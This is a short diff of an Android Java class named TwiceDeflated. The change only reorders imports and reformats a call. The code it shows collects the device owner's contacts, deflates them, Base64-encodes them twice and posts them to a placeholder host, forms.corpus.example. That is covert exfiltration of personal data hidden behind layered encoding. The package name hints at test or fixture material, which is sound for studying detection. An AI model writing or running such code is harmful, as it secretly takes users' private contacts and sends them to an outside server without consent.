@@ -1,12 +1,14 @@
 package org.corpus;
 
 import android.util.Base64;
-import java.io.ByteArrayOutputStream;
-import java.util.zip.Deflater;
-import java.util.zip.DeflaterOutputStream;
+
 import org.corpus.kit.Net;
 import org.corpus.kit.Owner;
 import org.corpus.kit.Screen;
+
+import java.io.ByteArrayOutputStream;
+import java.util.zip.Deflater;
+import java.util.zip.DeflaterOutputStream;
 
 /** Three layers. */
 public class TwiceDeflated extends Screen {
@@ -17,6 +19,9 @@ public class TwiceDeflated extends Screen {
             out.write(Net.utf8(String.join("\n", Owner.contacts(this))));
         }
         byte[] once = Base64.encode(bytes.toByteArray(), Base64.NO_WRAP);
-        Net.post("http://forms.corpus.example/twice", "text/plain", Base64.encode(once, Base64.NO_WRAP));
+        Net.post(
+                "http://forms.corpus.example/twice",
+                "text/plain",
+                Base64.encode(once, Base64.NO_WRAP));
     }
 }
